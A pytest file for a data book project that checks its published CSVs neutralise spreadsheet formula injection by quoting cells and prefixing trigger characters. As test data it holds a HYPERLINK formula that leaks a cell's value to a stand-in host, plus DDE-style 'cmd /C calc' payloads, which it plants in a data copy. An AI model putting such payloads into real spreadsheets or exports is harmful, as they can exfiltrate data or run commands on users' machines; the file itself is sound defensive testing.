"""Every CSV the book publishes is safe to open in a spreadsheet: no cell runs as a formula.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is published with a
leading single quote, and every text cell is quoted (OWASP's advice on CSV injection). Shown on
frames written by :func:`helpers.render.show.write_csv`, on the tables of a copy of the project
whose data holds such cells (a quote, an actor's name, an event's note), and on the CSV files the
energy chapter publishes from such data.
"""

from __future__ import annotations

import csv
import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from support.data_edits import real_data_digest, set_cell

from helpers import evidence
from helpers.render import show

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = show.FORMULA_TRIGGERS
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"


def published(path: Path) -> list[list[object]]:
    """The rows of a published CSV: quoted cells as text, unquoted ones as numbers (a cell that
    is neither fails to parse)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))


def assert_no_formula(rows: list[list[object]]) -> None:
    for row in rows:
        for value in row:
            assert isinstance(value, float) or not str(value).startswith(TRIGGERS), value


@pytest.fixture
def tables_dir(tmp_path: Path) -> Path:
    show.use(show.Context(chapter="safety", tables_dir=tmp_path / "tables"))
    return tmp_path / "tables" / "safety"


def test_cells_that_would_run_are_published_as_text(tables_dir: Path) -> None:
    frame = pd.DataFrame(
        {
            "=header": [HYPERLINK, SUM, MINUS, PLUS, "\t=1+1", "\r=1+1", "plain, text; =x"],
            "number": [1.0, -2.5, 3.0, -4.0, 5.0, 6.0, 7.0],
            "list": [("a", "=b"), ("-c",), (), ("d",), ("e",), ("f",), ("g",)],
        }
    )
    show.write_csv("cells", frame)
    rows = published(tables_dir / "cells.csv")
    assert_no_formula(rows)
    assert rows[0] == ["'=header", "number", "list"]
    assert [r[0] for r in rows[1:]] == [
        "'" + HYPERLINK,
        "'" + SUM,
        "'" + MINUS,
        "'" + PLUS,
        "'\t=1+1",
        "'\r=1+1",
        "plain, text; =x",
    ]
    assert [r[1] for r in rows[1:]] == [1.0, -2.5, 3.0, -4.0, 5.0, 6.0, 7.0]  # numbers stay
    assert rows[1][2] == "a;=b" and rows[2][2] == "'-c"
    text = (tables_dir / "cells.csv").read_text(encoding="utf-8")
    assert '"plain, text; =x"' in text, "text cells are quoted"


@pytest.fixture
def hostile_copy(data_copy: Path) -> Path:
    """A copy of the data whose quote, actor's name and event's note begin like formulas."""
    before = real_data_digest()
    seed = data_copy.parent / "seeds" / "001_60b3c2f42f5da098.txt"
    changed = seed.read_bytes() + f"\n{HYPERLINK}\n".encode()
    seed.write_bytes(changed)
    set_cell(data_copy, "sources.csv", "src-aq-2018", "sha256", hashlib.sha256(changed).hexdigest())
    set_cell(data_copy, "evidence.csv", "evi-aq-003", "quote", HYPERLINK)
    set_cell(data_copy, "actors.csv", "act-bajwa", "name", SUM)
    set_cell(data_copy, "events.csv", "ev-2018-bajwa-moscow-visit", "note", MINUS)
    set_cell(data_copy, "deals.csv", "deal-north-south-pipeline", "name", HYPERLINK)
    set_cell(data_copy, "deals.csv", "deal-north-south-pipeline", "obstacles", SUM)
    set_cell(data_copy, "figures.csv", "fig-trade-2006", "label", PLUS)
    assert evidence.validate(data_copy) == [], "the hostile cells are valid data"
    assert real_data_digest() == before
    return data_copy


def test_a_copy_whose_data_holds_formulas_is_published_as_text(
    hostile_copy: Path, tables_dir: Path
) -> None:
    dataset = evidence.load(hostile_copy)
    for name, row_id, column, value in [
        ("evidence", "evi-aq-003", "quote", HYPERLINK),
        ("actors", "act-bajwa", "name", SUM),
        ("events", "ev-2018-bajwa-moscow-visit", "note", MINUS),
    ]:
        show.write_csv(name, dataset.table(name).drop(columns=["line"]).reset_index(drop=True))
        rows = published(tables_dir / f"{name}.csv")
        assert_no_formula(rows)
        header = rows[0]
        row = next(r for r in rows[1:] if r[0] == row_id)
        assert row[header.index(column)] == "'" + value


@pytest.mark.build
def test_a_chapter_publishes_formulas_as_text(hostile_copy: Path, tmp_path: Path) -> None:
    """The energy chapter, run as the build runs it on the hostile copy, publishes its projects
    (a deal's name and obstacles) and its trade figures (a label) as text."""
    tables = tmp_path / "published"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "papermill",
            str(ROOT / "chapters" / "energy_deals.ipynb"),
            str(tmp_path / "energy_deals.ipynb"),
            "--cwd",
            str(ROOT / "chapters"),
            "--no-progress-bar",
            "--log-level",
            "ERROR",
            "-y",
            json.dumps({"data_dir": str(hostile_copy), "tables_dir": str(tables)}),
        ],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    written = sorted((tables / "energy_deals").glob("*.csv"))
    assert written
    for path in written:
        assert_no_formula(published(path))
    projects = published(tables / "energy_deals" / "projects.csv")
    row = next(r for r in projects[1:] if r[0] == "deal-north-south-pipeline")
    assert row[projects[0].index("name")] == "'" + HYPERLINK
    assert row[projects[0].index("obstacles")] == "'" + SUM
    trade = published(tables / "energy_deals" / "trade.csv")
    assert [r[trade[0].index("label")] for r in trade[1:] if r[0] == "fig-trade-2006"] == [
        "'" + PLUS
    ]
